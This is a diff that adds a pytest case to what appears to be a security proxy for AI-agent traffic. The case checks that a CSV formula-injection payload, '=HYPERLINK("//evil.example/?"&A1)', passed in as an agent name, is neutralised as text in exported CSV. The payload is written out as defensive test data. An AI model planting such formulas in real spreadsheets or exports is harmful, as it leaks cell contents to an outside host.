@@ -4,16 +4,20 @@ from __future__ import annotations
 
 import base64
 import concurrent.futures
+import csv
 import hashlib
+import io
 import json
 import queue
 import re
 import socket
 import subprocess
 import threading
+import urllib.parse
 from pathlib import Path
 
 import duckdb
+import httpx
 import pytest
 
 from tests.e2e.conftest import client
@@ -164,6 +168,20 @@ def test_an_agent_cannot_reach_the_analysts_terminal(proxy: Proxy, upstream: Ups
         assert "evil" in out
         assert "\x1b" not in out and "\x07" not in out, out
     assert "\\x1b[2J" in outputs[0] + outputs[3]
+
+
+def test_an_agent_cannot_plant_a_formula_in_the_analysts_spreadsheet(proxy: Proxy, upstream: Upstream) -> None:
+    """CSV is opened in spreadsheets: an agent's name that starts a formula stays text there."""
+    evil = '=HYPERLINK("//evil.example/?"&A1)'  # no colon: Basic auth ends the name there
+    with httpx.Client(proxy=proxy.url(urllib.parse.quote(evil, safe="")), trust_env=False, timeout=30) as c:
+        assert c.get(upstream.url("/allowed/formula")).status_code == 200
+    proxy.flow_events("/allowed/formula", "response")
+    for out in (proxy.shield("timeline", "--agent", "=HYPERLINK*", "--csv").stdout,
+                proxy.shield("sql", "SELECT agent, path FROM events WHERE path = '/allowed/formula'", "--csv").stdout):
+        rows = list(csv.DictReader(io.StringIO(out)))
+        assert rows and {r["agent"] for r in rows} == {"'" + evil}, out
+        assert {r["path"] for r in rows} == {"/allowed/formula"}
+    assert json.loads(proxy.shield("timeline", "--agent", "=HYPERLINK*", "--json").stdout.splitlines()[0])["agent"] == evil
 
 
 def test_several_analysts_at_once_while_traffic_flows(proxy: Proxy, upstream: Upstream) -> None:
